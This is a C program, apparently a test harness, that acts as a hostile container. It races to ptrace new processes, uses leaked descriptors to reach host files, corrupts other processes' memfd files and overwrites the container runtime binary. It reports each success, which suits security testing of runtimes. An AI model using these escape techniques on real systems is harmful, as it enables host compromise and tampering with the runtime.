// What a hostile container does to the processes that appear beside it. Reports on standard output, a line for each
// thing that it could do; the first line is "ready".
//
// attacker seize SETS FILE         traces each new process, and tells what it holds: more capabilities than SETS
//                                  (hexadecimal), open directories and files, a way to a file of the host
// attacker truncate                empties and overwrites each memory file of other processes
// attacker overwrite DEVICE INODE  opens what new processes execute, and waits until it can be written to

#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

enum { AHEAD = 6, PATH = 320 };

static double now(void) {
    struct timespec time;
    clock_gettime(CLOCK_MONOTONIC, &time);
    return time.tv_sec + time.tv_nsec / 1e9;
}

static uint64_t capabilities(int pid) {
    char path[PATH], line[256];
    uint64_t permitted = 0;
    snprintf(path, sizeof path, "/proc/%d/status", pid);
    FILE *file = fopen(path, "r");
    if (!file) return 0;
    while (fgets(line, sizeof line, file))
        if (!strncmp(line, "CapPrm:", 7)) permitted = strtoull(line + 7, NULL, 16);
    fclose(file);
    return permitted;
}

// A directory of the host's files, or of its procfs, leads to all of them.
static void climb(int directory, const char *file) {
    static const char *const ways[] = {"..",        "../..",  "../../1/root",
                                       "../1/root", "1/root", "../../../../../../../../.."};
    for (size_t i = 0; i < sizeof ways / sizeof *ways; i++) {
        char path[2 * PATH];
        snprintf(path, sizeof path, "%s%s", ways[i], file);
        int opened = openat(directory, path, O_RDONLY | O_CLOEXEC);
        if (opened < 0) continue;
        printf("read a file of the host through %s\n", ways[i]);
        close(opened);
    }
}

// Whether a descriptor of another process leads to a directory, or to a file that is no memory file.
static void look(int pid, const char *number, const char *file) {
    char path[PATH], link[PATH] = "";
    struct stat status;
    snprintf(path, sizeof path, "/proc/%d/fd/%s", pid, number);
    int opened = open(path, O_PATH | O_CLOEXEC);
    if (opened < 0) return;
    if (readlink(path, link, sizeof link - 1) > 0 && fstat(opened, &status) == 0 && strncmp(link, "/memfd:", 7)) {
        if (S_ISDIR(status.st_mode)) {
            printf("holds directory %s as %s\n", link, number);
            climb(opened, file);
        }
        if (S_ISREG(status.st_mode) && atoi(number) > 2) printf("holds file %s as %s\n", link, number);
    }
    close(opened);
}

static void inspect(int pid, uint64_t allowed, const char *file) {
    char path[PATH];
    uint64_t held = capabilities(pid);
    printf("seized %d with %llx\n", pid, (unsigned long long)held);
    if (held & ~allowed) printf("more %llx\n", (unsigned long long)(held & ~allowed));
    snprintf(path, sizeof path, "/proc/%d/fd", pid);
    DIR *list = opendir(path);
    for (struct dirent *entry; list && (entry = readdir(list));)
        if (entry->d_name[0] != '.') look(pid, entry->d_name, file);
    if (list) closedir(list);
}

// Pids are given out in order: the next one is tried before it is there.
_Noreturn static void seize(uint64_t allowed, const char *file) {
    int next = getpid() + 1;
    for (;;) {
        for (int pid = next; pid < next + AHEAD; pid++) {
            if (ptrace(PTRACE_SEIZE, pid, 0, 0) != 0) continue;
            next = pid + 1;
            int status;
            if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) != 0) continue;
            if (waitpid(pid, &status, __WALL) != pid || !WIFSTOPPED(status)) continue;
            inspect(pid, allowed, file);
            ptrace(PTRACE_DETACH, pid, 0, 0);
        }
        while (waitpid(-1, NULL, WNOHANG | __WALL) > 0) {
        }
        // Somebody may have been given a pid and lost it while nobody looked: follow the counter.
        char text[32] = "";
        int counter = open("/proc/loadavg", O_RDONLY | O_CLOEXEC);
        char line[128] = "";
        if (counter >= 0 && read(counter, line, sizeof line - 1) > 0 && sscanf(line, "%*s %*s %*s %*s %31s", text) == 1)
            if (atoi(text) >= next + AHEAD) next = atoi(text) - 1;
        if (counter >= 0) close(counter);
    }
}

static void spoil(const char *process, const char *number) {
    char path[PATH + 300], link[PATH] = "";
    static const char garbage[4096] = {[0 ... 4095] = (char)0xff};
    snprintf(path, sizeof path, "/proc/%s/fd/%s", process, number);
    if (readlink(path, link, sizeof link - 1) <= 0 || strncmp(link, "/memfd:", 7)) return;
    int file = open(path, O_RDWR | O_CLOEXEC);
    if (file < 0) return;
    struct stat status;
    int is_full = fstat(file, &status) == 0 && status.st_size > 0;
    if (is_full && pwrite(file, garbage, sizeof garbage, 0) > 0) printf("overwrote %s\n", link);
    if (ftruncate(file, 0) == 0 && is_full) printf("truncated %s\n", link);
    close(file);
}

static int truncate_all(void) {
    for (;;) {
        DIR *processes = opendir("/proc");
        if (!processes) return 1;
        for (struct dirent *process; (process = readdir(processes));) {
            if (process->d_name[0] < '1' || process->d_name[0] > '9' || atoi(process->d_name) == getpid()) continue;
            char path[PATH];
            snprintf(path, sizeof path, "/proc/%s/fd", process->d_name);
            DIR *files = opendir(path);
            for (struct dirent *file; files && (file = readdir(files));)
                if (file->d_name[0] != '.') spoil(process->d_name, file->d_name);
            if (files) closedir(files);
        }
        closedir(processes);
    }
}

// Waits until what is executed there no longer is, and can be written to.
static void overwrite_later(int executable, const char *what) {
    char path[PATH];
    snprintf(path, sizeof path, "/proc/self/fd/%d", executable);
    for (double deadline = now() + 2; now() < deadline;) {
        int writable = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
        if (writable < 0) {
            if (errno != ETXTBSY) return;
            continue;
        }
        // A sealed memory file can be opened for writing, and that is all.
        if (strncmp(what, "/memfd:", 7)) printf("writable %s\n", what);
        if (write(writable, "#", 1) == 1) printf("overwrote %s\n", what);
        close(writable);
        return;
    }
}

_Noreturn static void overwrite(dev_t device, ino_t inode) {
    char path[PATH], link[PATH];
    for (int next = getpid() + 1;;) {
        for (int pid = next; pid < next + AHEAD; pid++) {
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            int executable = open(path, O_RDONLY | O_CLOEXEC);
            if (executable < 0) continue;
            next = pid + 1;
            struct stat status;
            memset(link, 0, sizeof link);
            int is_known = readlink(path, link, sizeof link - 1) > 0 && fstat(executable, &status) == 0;
            int is_runtime = is_known && status.st_dev == device && status.st_ino == inode;
            if (is_runtime) printf("opened the runtime\n");
            // The container's own programs are not interesting, and memory files are, since nobody may change them.
            if (is_runtime || (is_known && !strncmp(link, "/memfd:", 7)))
                overwrite_later(executable, is_runtime ? "the runtime" : link);
            close(executable);
        }
    }
}

int main(int count, char **words) {
    setvbuf(stdout, NULL, _IOLBF, 0);
    printf("ready\n");
    if (count == 4 && !strcmp(words[1], "seize")) seize(strtoull(words[2], NULL, 16), words[3]);
    if (count == 2 && !strcmp(words[1], "truncate")) return truncate_all();
    if (count == 4 && !strcmp(words[1], "overwrite"))
        overwrite(strtoull(words[2], NULL, 10), strtoull(words[3], NULL, 10));
    fprintf(stderr, "usage: attacker seize SETS FILE | truncate | overwrite DEVICE INODE\n");
    return 2;
}
